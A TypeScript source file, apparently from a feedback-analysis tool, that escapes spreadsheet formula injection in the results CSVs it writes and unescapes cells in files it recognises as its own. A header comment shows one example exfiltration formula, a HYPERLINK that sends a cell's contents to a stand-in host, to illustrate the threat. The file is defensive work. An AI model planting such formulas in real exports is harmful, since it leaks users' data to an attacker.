// Spreadsheet formula injection (OWASP "CSV Injection") in the per-item results CSV that Analyze Feedback writes.
// Feedback text is untrusted: a cell starting with = + - @ (or a tab / carriage return) is a live formula when the
// file is opened in Excel or LibreOffice (`=HYPERLINK("http://evil/?"&A1,"click")`), and harmless text such as
// "+1 for dark mode" shows as #NAME?. The writer prefixes such a cell with an apostrophe, which spreadsheets read as
// "this is text"; a cell that already starts with an apostrophe gets one more, so that dropping the added apostrophe
// gives every cell back exactly. Readers drop it only in a file recognised as Product Forge's results (by its header,
// RESULTS_CSV_COLUMNS) or as the labels file the Report view writes (by its place, isLabelsFile): formulaEscapedCsv.
// Never in a user's own CSV, where a leading apostrophe is the customer's.
import * as path from 'node:path';

/** The fixed first columns of a results CSV (src/core/analysis/writers.ts), in order: how such a file is recognised. */
export const RESULTS_CSV_COLUMNS: readonly string[] = ['source', 'line', 'text', 'label', 'score', 'negative', 'neutral', 'positive'];

/** First characters that make a spreadsheet read a cell as a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain number ("-0.25", "+3", "1e-5"): no formula, and it must stay a number in the spreadsheet. */
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/** A cell as written to a results CSV: an apostrophe before a formula-like start or a leading apostrophe. */
export function escapeFormula(cell: string): string {
  if (cell.charCodeAt(0) === 39 /* ' */) return `'${cell}`;
  return FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? `'${cell}` : cell;
}

/**
 * An apostrophe escapeFormula adds: before a formula-like start or another apostrophe. Only such a one is dropped, so
 * a file written before the escape ("'quoted' is how I feel") reads as written.
 */
const ESCAPED = /^'[=+\-@\t\r']/;

/** The cell escapeFormula was given: its added apostrophe dropped (only for cells of a results CSV or labels file). */
export function unescapeFormula(cell: string): string {
  return cell.charCodeAt(0) === 39 && ESCAPED.test(cell) ? cell.slice(1) : cell;
}

/** Drops the apostrophe escapeFormula added from every cell of a row of a results CSV, in place; returns the row. */
export function unescapeFormulaRow(cells: string[]): string[] {
  for (let i = 0; i < cells.length; i++) cells[i] = unescapeFormula(cells[i]);
  return cells;
}

/** Whether a header row is that of a results CSV Product Forge wrote (whose cells are escaped): its fixed columns first. */
export function isResultsCsvHeader(header: readonly string[] | undefined): boolean {
  if (!header || header.length < RESULTS_CSV_COLUMNS.length) return false;
  return RESULTS_CSV_COLUMNS.every((name, i) => (i === 0 ? header[0].replace(/^\uFEFF/, '') : header[i]).trim() === name);
}

/**
 * Whether a file is the labels file the Report view's "your label" writes (src/core/labels.ts,
 * .product-forge/labels/sentiment-labels.csv in a workspace folder), whose texts are escaped like a results CSV's.
 */
export function isLabelsFile(file: string): boolean {
  return labelsFolderFile(file, /^sentiment-labels\.csv$/);
}

/**
 * Whether a file is where predictions of the labels file go by default (beside it: sentiment-labels.predictions.csv,
 * -2, …). They copy its escaped texts as written, so they are read back unescaped like it.
 */
export function isLabelsPredictionsFile(file: string): boolean {
  return labelsFolderFile(file, /^sentiment-labels\.predictions(?:-\d+)?\.csv$/);
}

function labelsFolderFile(file: string, name: RegExp): boolean {
  const parts = path.resolve(file).split(/[\\/]/);
  const n = parts.length;
  return n >= 3 && name.test(parts[n - 1]) && parts[n - 2] === 'labels' && parts[n - 3] === '.product-forge';
}

/**
 * Whether a CSV's cells were formula-escaped by Product Forge: its results (by the header), its labels file and that
 * file's predictions at their default place (by the place).
 */
export function formulaEscapedCsv(file: string, header: readonly string[] | undefined): boolean {
  return isResultsCsvHeader(header) || isLabelsFile(file) || isLabelsPredictionsFile(file);
}
